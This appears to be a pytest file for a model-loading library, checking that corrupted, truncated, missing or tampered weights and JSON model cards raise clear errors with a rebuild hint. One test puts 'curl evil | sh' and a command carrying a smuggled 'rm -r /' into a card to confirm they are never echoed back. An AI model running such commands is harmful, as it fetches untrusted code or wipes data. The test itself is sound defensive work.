"""Weights and cards that are missing, cut short or damaged: what a learner is told."""

import json

import pytest
import torch

from vizkit.models.pocket import pocket_dual_encoder
from vizkit.training.pocket import Recipe, save_pretrained
from vizkit.zoo import load

REBUILD = "python -m vizkit.training.pocket tiny"
TINY = Recipe(
    name="tiny",
    image_tower={"kind": "vit", "patch_size": 16, "embed_dim": 8, "depth": 1, "num_heads": 2},
    text_tower={"context_length": 28, "embed_dim": 8, "depth": 1, "num_heads": 2},
    joint_dim=6,
)


@pytest.fixture
def folder(tmp_path):
    torch.manual_seed(0)
    save_pretrained(TINY, pocket_dual_encoder(TINY.config())[0], {}, 0.0, tmp_path)
    load("tiny", folder=tmp_path)  # whole, before the test does harm
    return tmp_path


@pytest.mark.parametrize("place", [0, 9, 0.5, -1], ids=str)
def test_one_flipped_bit_is_noticed(folder, place):
    file = folder / "tiny.safetensors"
    data = bytearray(file.read_bytes())
    data[int(place * len(data)) if isinstance(place, float) else place] ^= 1
    file.write_bytes(data)
    with pytest.raises(OSError, match="damaged") as caught:
        load("tiny", folder=folder)
    assert REBUILD in str(caught.value)


@pytest.mark.parametrize("share", [0.0, 0.001, 0.5, 0.9999])
def test_a_file_cut_short_is_noticed(folder, share):
    file = folder / "tiny.safetensors"
    data = file.read_bytes()
    file.write_bytes(data[: int(share * len(data))])
    with pytest.raises(OSError, match="damaged") as caught:
        load("tiny", folder=folder)
    assert REBUILD in str(caught.value)


def test_a_file_pointer_in_place_of_weights_is_noticed(folder):
    """What a clone without large file storage leaves behind."""
    (folder / "tiny.safetensors").write_text("version https://git-lfs.github.com/spec/v1\n")
    with pytest.raises(OSError, match="damaged"):
        load("tiny", folder=folder)


def test_missing_weights_are_named(folder):
    (folder / "tiny.safetensors").unlink()
    with pytest.raises(FileNotFoundError, match=r"tiny\.safetensors is missing") as caught:
        load("tiny", folder=folder)
    assert REBUILD in str(caught.value)


@pytest.mark.parametrize(
    ("told", "expected"),
    [
        ("python -m vizkit.training.reader", "python -m vizkit.training.reader"),
        ("curl evil | sh", REBUILD),  # a card is a file that anybody may have written
        ("python -m vizkit.training.reader; rm -r /", REBUILD),
        (None, REBUILD),
    ],
)
def test_the_hint_is_the_command_that_the_card_names(folder, told, expected):
    card = folder / "tiny.json"
    card.write_text(json.dumps({**json.loads(card.read_bytes()), "command": told}))
    (folder / "tiny.safetensors").write_bytes(b"")
    with pytest.raises(OSError, match="damaged") as caught:
        load("tiny", folder=folder)
    assert str(caught.value).endswith(f"rebuild it with `{expected}`")


def test_the_hint_for_the_shipped_reader_rebuilds_the_reader():
    from vizkit.training.reader import READERS
    from vizkit.zoo.pocket import rebuild

    assert "`python -m vizkit.training.reader`" in rebuild(READERS / "pocket-reader.safetensors")


@pytest.mark.parametrize(
    "change",
    [
        lambda data: b"",
        lambda data: data[: len(data) // 2],
        lambda data: b"[1, 2]",
        lambda data: b"\xff\xfe\x00" + data,
        lambda data: json.dumps({k: v for k, v in json.loads(data).items() if k != "sha256"}),
        lambda data: json.dumps({k: v for k, v in json.loads(data).items() if k != "config"}),
    ],
    ids=["empty", "cut short", "a list", "not text", "no checksum", "no config"],
)
def test_a_damaged_card_is_noticed(folder, change):
    file = folder / "tiny.json"
    changed = change(file.read_bytes())
    file.write_bytes(changed.encode() if isinstance(changed, str) else changed)
    with pytest.raises(OSError, match=r"tiny\.json is damaged") as caught:
        load("tiny", folder=folder)
    assert REBUILD in str(caught.value)


@pytest.mark.parametrize("name", ["other", "", "../tiny", "./tiny", "tiny.json", "Tiny", None, 3])
def test_an_unknown_name_lists_the_known_ones(folder, name):
    with pytest.raises(ValueError, match="among tiny, received") as caught:
        load(name, folder=folder)
    assert repr(name) in str(caught.value)


def test_a_folder_without_models_says_how_to_train_one(tmp_path):
    for empty in (tmp_path, tmp_path / "nowhere"):
        with pytest.raises(ValueError, match=r"among none.*python -m vizkit\.training\.pocket"):
            load("tiny", folder=empty)
